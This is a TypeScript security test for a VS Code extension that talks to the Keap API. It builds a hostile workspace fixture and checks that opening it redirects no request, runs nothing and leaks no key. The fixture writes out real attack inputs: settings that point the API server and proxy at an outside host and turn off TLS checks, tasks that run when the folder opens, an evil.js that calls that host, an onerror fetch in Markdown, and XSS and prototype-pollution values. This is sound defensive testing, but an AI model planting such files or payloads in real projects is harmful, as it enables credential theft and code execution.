import { deepEqual, equal, ok } from 'node:assert/strict';
import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { PROJECT_ROOT } from '../../vscode/serverInstall.ts';
import { shownText } from '../../vscode/shownText.ts';
import { openBuilder } from '../builder.ts';
import { useVsCode } from '../fixture.ts';
import { addConnection, keyOf, keyShape, startKeap } from '../keap.ts';
import { makeKey } from '../leaks.ts';

const vscode = useVsCode();

const COMMANDS = [
  'keap.sendFirstRequest',
  'keap.sendRequest',
  'keap.copyCurl',
  'keap.findKeys',
  'keap.copyDiagnostics',
];

/** What a folder can hold to redirect a key, to send, or to have something sent. */
function hostileFiles(elsewhere: string, key: string): Record<string, string> {
  const json = (value: unknown) => JSON.stringify(value, undefined, 2);
  const command = (id: string, ...args: unknown[]) => `command:${id}?${encodeURIComponent(JSON.stringify(args))}`;
  const inputs = [
    ...COMMANDS.map((id) => ({ id: id.replace('.', '_'), type: 'command', command: id })),
    { id: 'named', type: 'command', command: 'keap.sendRequest', args: 'v2:listContacts' },
    { id: 'forged', type: 'command', command: 'keap.sendRequest', args: { operation: { key: 'v2:listContacts' } } },
  ];
  return {
    '.vscode/settings.json': json({
      // Servers and keys of our own that no setting has.
      'keap.server': elsewhere,
      'keap.origin': elsewhere,
      'keap.baseUrl': elsewhere,
      'keap.apiKey': key,
      'keap.connections': [{ id: 'x', name: 'Evil', kind: 'personalAccessToken', origin: elsewhere }],
      'keap.activeConnection': 'x',
      // Questions that it would rather not have asked.
      'keap.confirm.ask': [],
      'keap.confirm.typed': [],
      // Ways that lead elsewhere.
      'http.proxy': elsewhere,
      'http.proxySupport': 'override',
      'http.proxyStrictSSL': false,
      'http.noProxy': ['*'],
      'http.proxyAuthorization': 'Basic c3RvbGVu',
      'http.systemCertificates': false,
      'http.experimental.systemCertificatesV2': false,
      // Whatever else may start something.
      'task.allowAutomaticTasks': 'on',
      'json.schemas': [{ fileMatch: ['*.json'], url: `${elsewhere}/schema.json` }],
      'files.associations': { '*.json': 'markdown', '*200.json': 'html' },
      'workbench.editorAssociations': { '*.json': 'keap.builder' },
      'security.workspace.trust.enabled': false,
    }),
    '.vscode/tasks.json': json({
      version: '2.0.0',
      inputs,
      tasks: inputs.map(({ id }) => ({
        label: id,
        type: 'process',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: VS Code fills it in.
        command: 'echo ${input:ID}'.replace('ID', id),
        runOptions: { runOn: 'folderOpen' },
        problemMatcher: [],
      })),
    }),
    '.vscode/launch.json': json({
      version: '0.2.0',
      inputs,
      configurations: [
        {
          type: 'node',
          request: 'launch',
          name: 'evil',
          // biome-ignore lint/suspicious/noTemplateCurlyInString: VS Code fills it in.
          program: '${command:keap.sendFirstRequest}',
          preLaunchTask: 'keap_sendRequest',
        },
      ],
    }),
    '.vscode/extensions.json': json({ recommendations: ['evil.keap', 'keap-api-explorer.keap-api-explorer'] }),
    'evil.code-workspace': json({ folders: [{ path: '.' }], settings: { 'http.proxy': elsewhere } }),
    'requests.http': [
      `@key = {{$keapKey}}`,
      `GET ${elsewhere}/crm/rest/v2/contacts`,
      'X-Keap-API-Key: {{$processEnv KEAP_API_KEY}}',
      `Host: api.infusionsoft.com`,
      '',
      '### ',
      `POST https://api.infusionsoft.com@${elsewhere.replace('http://', '')}/crm/rest/v2/emails:send`,
    ].join('\n'),
    '.env': `KEAP_API_KEY=${key}\nHTTPS_PROXY=${elsewhere}\nNODE_TLS_REJECT_UNAUTHORIZED=0\nKEAP_SERVER=${elsewhere}\n`,
    'README.md': [
      '# Run me',
      ...COMMANDS.map((id) => `[${id}](${command(id, 'v2:listContacts')})`),
      `![](${elsewhere}/pixel.png)`,
      '[open](vscode://keap-api-explorer.keap-api-explorer/send?operation=v2:deleteContact)',
      `<img src="${elsewhere}/pixel2.png" onerror="fetch('${elsewhere}')">`,
    ].join('\n\n'),
    [`${key}.txt`]: 'A file named like a key.',
    'List contacts 200.json': json({ $schema: `${elsewhere}/named-like-an-answer.json` }),
    'keap-response/x.json': '{}',
    'package.json': json({
      name: 'keap-api-explorer',
      publisher: 'keap-api-explorer',
      main: './evil.js',
      engines: { vscode: '*' },
      contributes: { commands: [{ command: 'keap.addConnection', title: 'Keap: Add connection' }] },
    }),
    'evil.js': `require('http').get('${elsewhere}/ran')`,
  };
}

test('a hostile workspace redirects nothing, sends nothing and gets nothing', async (t) => {
  const keap = await startKeap(t);
  const planted = makeKey();
  const files = hostileFiles(keap.stranger.origin, planted);
  const keysAreSeenBecause = 'the folder brings one along, and a file beside it';
  const opened = await vscode.open(t, { env: keap.env, files, keysAreSeenBecause });
  const { workbench, workspace, server } = opened;
  const { editors, messages, page, quickInput } = workbench;
  await workbench.activity('Keap').waitFor();

  await t.test('opening it does not even start the extension, and adds no connection', async () => {
    ok(!(await messages.statusBar()).some((text) => text.includes('Keap')));
    await workbench.runCommand('Keap: Switch connection');
    await quickInput.opened('Switch connection');
    deepEqual(
      (await quickInput.items()).map(({ label }) => label),
      ['Sandbox', 'Add connection…'],
    );
    await quickInput.cancel();
    equal(keap.front.requests.length, 0);
  });

  await addConnection(workbench, { key: keap.key, name: 'Mine' });

  await t.test('settings of the folder lead no request elsewhere', async () => {
    const list = await openBuilder(workbench, 'GET /v2/contacts', 'List contacts');
    await list.send('200 OK');
    equal(keyOf(keap.calls().at(-1)), keap.key);
    equal(keap.calls().length, 1);
  });

  await t.test('settings of the folder do not keep a deletion from being asked about', async () => {
    const remove = await openBuilder(workbench, 'DELETE /v2/contacts/{contact_id}', 'Delete contact');
    await remove.field('contact_id').fill('1');
    await remove.sendButton.click();
    await quickInput.widget.or(messages.box).first().waitFor();
    await page.keyboard.press('Escape');
    await remove.cancelButton.waitFor({ state: 'hidden' });
    equal(keap.calls('DELETE').length, 0);
  });

  const contents: readonly (readonly [what: string, file: string])[] = [
    ['a .http file', 'requests.http'],
    ['Markdown with command: links, deep links and images', 'README.md'],
    ['a file named like a key', `${planted}.txt`],
    ['a file named like an answer', 'List contacts 200.json'],
    ['a .env file', '.env'],
    ['tasks', '.vscode/tasks.json'],
    ['launch configurations', '.vscode/launch.json'],
  ];
  for (const [what, file] of contents) {
    await t.test(`${what}, opened, does nothing`, async () => {
      const before = keap.front.requests.length;
      await workbench.palette('');
      await quickInput.type(file.split('/').pop() ?? file);
      await quickInput.rows
        .filter({ hasText: file.split('/').pop() ?? file })
        .first()
        .click();
      await editors.active.waitFor();
      equal(keap.front.requests.length, before);
    });
  }

  await t.test('a task whose input is one of our commands gets nothing that it could pass on', async () => {
    const before = keap.calls().length;
    for (const task of ['keap_copyCurl', 'named', 'forged']) {
      await workbench.runCommand('Tasks: Run Task');
      await quickInput.opened('Select the task to run');
      await quickInput.pick(task);
      // Our command asks which operation it is about, whatever it is told; whoever did not mean it leaves.
      await quickInput.opened('Search 680 operations');
      await quickInput.cancel();
    }
    equal(keap.calls().length, before);
  });

  await t.test('symlinks lead the search for keys nowhere', async () => {
    const outside = join(server.serverDataDir, 'elsewhere.txt');
    writeFileSync(outside, makeKey());
    symlinkSync(outside, join(workspace, 'symlink.txt'));
    symlinkSync(server.serverDataDir, join(workspace, 'symlinked-folder'));
    await workbench.runCommand('Keap: Find keys in files');
    const found = await messages.notified(/Found|No Keap key/);
    ok(found.startsWith('Found 2 Keap keys in 2 files;'), found);
  });

  await t.test('no address opens us: there is no handler of deep links', () => {
    const read = (name: string) => readFileSync(join(PROJECT_ROOT, 'dist', name), 'utf8');
    const bundle = read('extension.cjs') + read('late.cjs');
    ok(!/registerUriHandler|registerTerminalLinkProvider|registerTaskProvider|registerDebug/.test(bundle));
    const manifest = JSON.parse(readFileSync(join(PROJECT_ROOT, 'package.json'), 'utf8'));
    deepEqual(
      manifest.activationEvents.filter((event: string) =>
        /^(onUri|workspaceContains|onStartupFinished|\*)/.test(event),
      ),
      [],
    );
    ok(!/enableCommandUris/.test(bundle));
  });

  await t.test('an answer is as little to be trusted as the folder', async () => {
    const contact = {
      $schema: `${keap.stranger.origin}/schema-of-an-answer.json`,
      given_name: '<script>fetch("/")</script><img src=x onerror=alert(1)>',
      family_name: '\u202e[run](command:keap.removeConnection)$(error)',
      ['__proto__']: { polluted: true },
      image: `![](${keap.stranger.origin}/pixel.png)`,
    };
    keap.answerWith((_request, response) => {
      const headers = { 'content-type': 'application/json', 'x-evil': '$(error)[x](command:y)' };
      response.writeHead(400, '$(error) <b>[x](command:keap.removeConnection)', headers);
      response.end(JSON.stringify({ message: `${contact.family_name} ${contact.given_name}`, ...contact }));
    });
    const list = await openBuilder(workbench, 'GET /v2/contacts', 'List contacts');
    await list.send('400');
    equal(await list.result.locator('script, img, b, a').count(), 0);
    const told = await shownText(list.result);
    ok(told.includes('⟨U+202E⟩') && !told.includes('\u202e') && !told.includes(']('), told);
    await list.openResponse('List contacts 400');
    const status = await messages.statusBarItem('400').innerHTML();
    ok(!/codicon-error|href="command:/.test(status), status);
    keap.answerWith(undefined);
  });

  deepEqual(keap.stranger.requests, []);
  ok(keap.front.requests.every((request) => keyOf(request) === keap.key));
  deepEqual(
    keap.refusedHosts.filter((host) => /127\.0\.0\.1|evil/.test(host)),
    [],
  );
  ok(!keyShape.test((await messages.statusBar()).join()));
});
